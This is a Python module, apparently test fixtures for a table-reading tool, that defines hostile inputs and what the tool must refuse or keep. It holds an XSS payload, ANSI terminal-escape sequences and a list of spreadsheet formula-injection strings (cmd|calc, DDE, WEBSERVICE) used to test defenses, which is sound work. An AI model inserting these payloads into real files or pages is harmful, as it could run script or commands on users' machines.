"""What a hostile input is: bytes, how case.yaml would declare them, and what has to come out."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

CANARY = "Zq7Halimax"
"""Stands in the cells of every input that can hold one: it may be in the table, and in no message."""
SCRIPT = "</script><script>window.hit=1</script><img src=x onerror=window.hit=2>"
ESCAPE = "\x1b[2J\x1b]0;owned\x07\x1b[31mred"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("https://example.org/?"&A1)', "\t=1+1", "\r=1+1", '=IMPORTXML("https://example.org","//a")',
            '=WEBSERVICE("https://example.org")', "=DDE(\"cmd\";\"/C calc\";\"x\")")  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One input.

    ``make``   its bytes; made when needed, as some are large
    ``rows``   how many rows have to be read; None: it has to be refused
    ``says``   what the message (refused) or the notes (read) must say
    ``kept``   values that must stand in the table, exactly
    ``given``  what else case.yaml says of the source
    ``shapes`` read as boundaries
    """

    name: str
    format: str
    make: Callable[[], bytes]
    rows: int | None = None
    says: str = ""
    kept: tuple[str, ...] = ()
    given: Mapping[str, Any] = field(default_factory=dict)
    shapes: bool = False


def refused(name: str, format: str, make: Callable[[], bytes] | bytes, says: str, **more: Any) -> Hostile:
    """Return an input that has to be refused with these words."""
    return _made(name, format, make, None, says, more)


def reads(name: str, format: str, make: Callable[[], bytes] | bytes, rows: int, *kept: str, **more: Any) -> Hostile:
    """Return an input that has to be read, with these values in it."""
    return _made(name, format, make, rows, more.pop("says", ""), more | {"kept": kept})


def _made(
    name: str, format: str, make: Callable[[], bytes] | bytes, rows: int | None, says: str, more: dict[str, Any]
) -> Hostile:
    own = {key: more.pop(key) for key in ("kept", "shapes") if key in more}
    content = make if callable(make) else lambda: make
    return Hostile(name, format, content, rows, says, given=more, **own)
